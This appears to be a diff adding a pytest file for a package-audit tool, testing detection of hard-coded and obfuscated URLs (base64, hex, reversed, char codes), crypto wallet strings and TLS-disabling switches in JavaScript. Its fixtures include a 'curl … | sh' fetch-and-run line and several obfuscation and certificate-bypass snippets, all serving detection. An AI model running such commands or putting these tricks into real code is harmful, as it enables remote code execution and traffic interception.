@@ -1,0 +1,163 @@
+"""Addresses that stand as values: plain, named, told to people, encoded; wallets, and switches."""
+
+from __future__ import annotations
+
+import pytest
+from support.packages import analysed, contents
+
+from audit.capabilities import mentions
+from audit.model.mention import ENCODED, ENDPOINT, PROSE
+
+
+def told(code: str, kind: str = "address", path: str = "index.js") -> list[tuple[str, str]]:
+    files = {"index.js": "require('./other')", path: code, "other.js": "exports.x = 1"}
+    found = mentions(analysed(contents(files)))
+    return [(each.to, each.text) for each in found if each.mentioned.value == kind]
+
+
+STANDING = {
+    "a constant": ("const A = 'https://a.invalid/x'", ""),
+    "a member": ('exports.x = { first: "wss://a.invalid:1/" }', ""),
+    "a template": ("exports.x = (id) => `https://a.invalid/${id}`", ""),
+    "code in a string": ("f(\"import 'https://a.invalid/d.js'\")", ""),
+    "a name that code asks": ("class A { baseURL = opts.u ?? 'https://a.invalid' }", ""),
+    "an endpoint": ("exports.x = { apiUrl: 'https://a.invalid/v1' }", ENDPOINT),
+    "a default": ("const host = options.host || 'https://a.invalid'", ENDPOINT),
+    "set as an endpoint": ("api.endpoint = 'https://a.invalid'", ENDPOINT),
+    "a link to a document": ("const DOCS_URL = 'https://a.invalid/e'", PROSE),
+    "in a message": ("throw new RangeError('https://a.invalid/why')", PROSE),
+    "on the console": ("console.warn('https://a.invalid/why', 1)", PROSE),
+    "a command": ("exports.x = 'curl -s https://a.invalid/i | sh'", ""),
+    "a link of a page": ("a.href = 'https://a.invalid/x'", PROSE),
+}
+
+
+@pytest.mark.parametrize(("code", "purpose"), STANDING.values(), ids=STANDING)
+def test_standing(code: str, purpose: str) -> None:
+    (found,) = told(code)
+    assert found[0] == purpose
+    assert found[1].rstrip(":1").endswith("//a.invalid")
+
+
+def test_a_host_beside_its_name() -> None:
+    assert told("exports.x = { host: 'api.a.invalid', port: 443 }") == [
+        (ENDPOINT, "//api.a.invalid")
+    ]
+    assert told("exports.x = { server: '203.0.113.9:80' }") == [(ENDPOINT, "//203.0.113.9:80")]
+
+
+NOT_STANDING = {
+    "a comment": "// x = 'https://a.invalid/x'\n/* y = 'https://b.invalid' */",
+    "a sentence": "f('see https://a.invalid/x for more')",
+    "who asks": "f('agent/1.0 (https://a.invalid/x)')",
+    "no host": "const a = 'https://' + host; const b = 'http://localhost:80'",
+    "a pattern": "const a = /^https:\\/\\/a.invalid/",
+}
+
+
+@pytest.mark.parametrize("code", NOT_STANDING.values(), ids=NOT_STANDING)
+def test_not_standing(code: str) -> None:
+    assert told(code) == []
+
+
+CODES = ", ".join(str(ord(one)) for one in "https://a.invalid/x")
+HIDDEN = {
+    "base64": "atob('aHR0cHM6Ly9hLmludmFsaWQveA==')",
+    "base64 in pieces": "atob(['aHR0cHM6', 'Ly9hLmlu', 'dmFsaWQveA=='].join(''))",
+    "hex": "Buffer.from('68747470733a2f2f612e696e76616c69642f78', 'hex')",
+    "reversed": "[...'x/dilavni.a//:sptth'].reverse().join('')",
+    "codes": f"String.fromCharCode({CODES})",
+    "escapes": r"f('\x68\x74\x74\x70\x73\x3a\x2f\x2f\x61.invalid')",
+    "pieces": "f('htt' + 'ps://a.inv' + 'alid/x')",
+    "a row": "f(['https:', '', 'a.invalid', 'x'].join('/'))",
+}
+
+
+@pytest.mark.parametrize("code", HIDDEN.values(), ids=HIDDEN)
+def test_encoded(code: str) -> None:
+    assert (ENCODED, "https://a.invalid") in told(code)
+
+
+def test_labels_in_a_row() -> None:
+    assert told("f(['a', 'b', 'invalid'].join('.'))") == [(ENCODED, "//a.b.invalid")]
+
+
+NOT_HIDDEN = {
+    "no address": "atob('aHR0cHM6'); Buffer.from('68747470', 'hex')",
+    "another text": "atob('c29tZXRoaW5nIGVsc2U=')",
+    "a scheme alone": "f('https' + '://' + host); g(['https:', '', host].join('/'))",
+    "two labels": "f(['a', 'b'].join('.'))",
+    "a comment": "// atob('aHR0cHM6Ly9hLmludmFsaWQveA==')",
+    "numbers": "f(104, 116, 116, 112, 1)",
+}
+
+
+@pytest.mark.parametrize("code", NOT_HIDDEN.values(), ids=NOT_HIDDEN)
+def test_not_encoded(code: str) -> None:
+    assert told(code) == []
+
+
+def test_settings_that_code_loads() -> None:
+    files = {
+        "index.js": "require('./settings.json')",
+        "settings.json": '{"api": {"host": "api.a.invalid"}}',
+        "other.json": '{"api": {"host": "api.b.invalid"}}',
+        "package.json": '{"homepage": "https://a.invalid"}',
+    }
+    (found,) = mentions(analysed(contents(files)))
+    assert (found.text, found.evidence.file) == ("//api.a.invalid", "settings.json")
+
+
+WALLETS = [
+    "0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D",
+    "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh",
+    "1BoatSLRHtKNngkdXEeobR76b53LETtpyT",
+    "TokenkegQfeZyiNwAJbNbGKPFXCWuBvf9Ss623VQ5DA",
+]
+NO_WALLETS = [
+    "0x0000000000000000000000000000000000000000",
+    "7a250d5630B4cF539739dF2C5dAcb4c659F2488D",
+    "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlq",
+    "1BoatSLRHtKNngkdXEeobR76b53LETtpyU",
+    "11111111111111111111111111111111111111111111",
+    "ABCDEFGHJKLMNPQRSTUVWXYZABCDEFGHJKLMNPQRSTU",
+]
+
+
+@pytest.mark.parametrize("text", WALLETS)
+def test_a_wallet(text: str) -> None:
+    assert told(f"exports.keep = '{text}'", "wallet") == [("", text)]
+    assert told(f"// '{text}'", "wallet") == []
+
+
+@pytest.mark.parametrize("text", NO_WALLETS)
+def test_no_wallet(text: str) -> None:
+    assert told(f"exports.to = '{text}'", "wallet") == []
+
+
+SWITCHES = {
+    "{ rejectUnauthorized: false }": "rejectUnauthorized",
+    "o.rejectUnauthorized=!1": "rejectUnauthorized",
+    "{ checkServerIdentity: () => undefined }": "checkServerIdentity",
+    "{ NODE_TLS_REJECT_UNAUTHORIZED: '0' }": "NODE_TLS_REJECT_UNAUTHORIZED",
+    "{ env: { NODE_OPTIONS: `--require ${p}` } }": "NODE_OPTIONS",
+}
+
+
+@pytest.mark.parametrize(("code", "name"), SWITCHES.items(), ids=SWITCHES)
+def test_a_switch(code: str, name: str) -> None:
+    assert told(f"require('https'); f({code})", "switch") == [("", name)]
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "{ rejectUnauthorized: true }",
+        "{ rejectUnauthorized: options.strict !== false }",
+        "{ checkServerIdentity: (host, cert) => check(host, cert) }",
+        "{ NODE_OPTIONS: '--max-old-space-size=1' }",
+        "1 // { rejectUnauthorized: false }",
+    ],
+)
+def test_no_switch(code: str) -> None:
+    assert told(f"require('https'); f({code}\n)", "switch") == []
